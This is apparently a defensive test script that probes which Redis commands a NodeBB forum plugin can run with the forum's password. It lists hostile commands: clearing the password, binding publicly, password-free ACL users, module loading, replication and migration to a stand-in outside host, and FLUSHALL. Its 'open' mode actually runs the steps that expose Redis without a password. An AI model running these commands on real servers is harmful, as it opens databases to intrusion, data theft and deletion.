#!/usr/bin/env bash
# redis-plugin.sh commands|open|listeners: what a plugin can do in Redis with the forum's password.
here=$(dirname "$(readlink -f "$0")")
# shellcheck source=/dev/null
source "$here/lib.sh"
ask() { as_plugin "$here/forum-redis.sh" "$@" 2>&1 | tr -d '\r' | head -n 3 | paste -sd ' '; }

# KEYS and INFO are not among them: NodeBB's upgrades and its control panel need those. In a transaction, an allowed command is queued and
# a
# forbidden one refused at once; nothing is executed. Prints command and answer, separated by a tab.
ask_in_transactions() {
  local command commands
  mapfile -t commands
  for command in "${commands[@]}"; do printf 'ECHO "> %s"\nMULTI\n%s\nDISCARD\n' "${command//\"/}" "$command"; done |
    as_plugin "$here/forum-redis.sh" 2>&1 | tr -d '\r' | awk '
      /^> /                                  { command = substr($0, 3); seen = 0; next }
      command != "" && NF && ++seen == 2     { print command "\t" $0 }'
}

tell() {
  local command=$1 answer=$2
  case $answer in
    *NOPERM* | *"no permissions"* | *"unknown command"* | *"unknown subcommand"* | *"command not allowed. If the enable-"*) echo "refused: $command" ;;
    *) echo "allowed: $command: ${answer:0:100}" ;;
  esac
}

case $1 in
  commands)
    require_plugin
    [[ $(ask PING) == PONG ]] || { echo "the forum's password does not open Redis" >&2; exit 1; }
    [[ $(ask SET attack:lever 1 EX 5) == OK ]] || { echo "the forum cannot write to Redis" >&2; exit 1; }
    while IFS=$'\t' read -r command answer; do tell "$command" "$answer"; done < <(ask_in_transactions <<'COMMANDS'
CONFIG SET requirepass ""
CONFIG SET bind "0.0.0.0"
CONFIG SET protected-mode no
CONFIG SET dir /tmp
CONFIG SET dbfilename attack
CONFIG SET maxmemory 1
CONFIG GET requirepass
CONFIG GET *
CONFIG RESETSTAT
CONFIG REWRITE
ACL SETUSER attack on nopass ~* &* +@all
ACL SETUSER default on nopass ~* &* +@all
ACL LIST
ACL GETUSER default
ACL SAVE
MODULE LOAD /tmp/attack.so
MODULE LIST
REPLICAOF 203.0.113.1 6379
SLAVEOF 203.0.113.1 6379
DEBUG OBJECT attack:lever
DEBUG RELOAD
FLUSHALL
FLUSHDB
SWAPDB 0 1
BGREWRITEAOF
BGSAVE
CLIENT KILL TYPE normal
CLIENT LIST
CLIENT PAUSE 1
FAILOVER
LATENCY RESET
SLOWLOG RESET
MIGRATE 203.0.113.1 6379 attack:lever 0 10
EVAL "return 1" 0
FUNCTION FLUSH
SCRIPT FLUSH
COMMANDS
    )
    # Not allowed in transactions; these are harmless.
    tell "SAVE" "$(ask SAVE)"
    tell "SHUTDOWN ABORT" "$(ask SHUTDOWN ABORT)"
    tell "MONITOR" "$(as_plugin timeout 2 "$here/forum-redis.sh" MONITOR 2>&1 | head -n 1 || true)"
    ;;
  open)
    require_plugin
    for command in 'CONFIG SET protected-mode no' 'CONFIG SET bind 0.0.0.0' 'CONFIG SET requirepass ' 'CONFIG REWRITE'; do
      # shellcheck disable=SC2086 # the words of a command
      if [[ $command == *requirepass* ]]; then answer=$(ask CONFIG SET requirepass ""); else answer=$(ask $command); fi
      echo "$command: $answer"
    done
    ;;
  listeners)
    # Addresses reachable from outside, and a server without a password.
    ss -Hltn 'sport = :6379' | awk '{ print $4 }' | grep -vE '^(127\.|\[::1\])' | sed 's/^/listens at /' || true
    if [[ $(redis-cli -h 127.0.0.1 PING 2>/dev/null) == PONG ]]; then echo "answers on the loopback address without a password"; fi
    ;;
esac
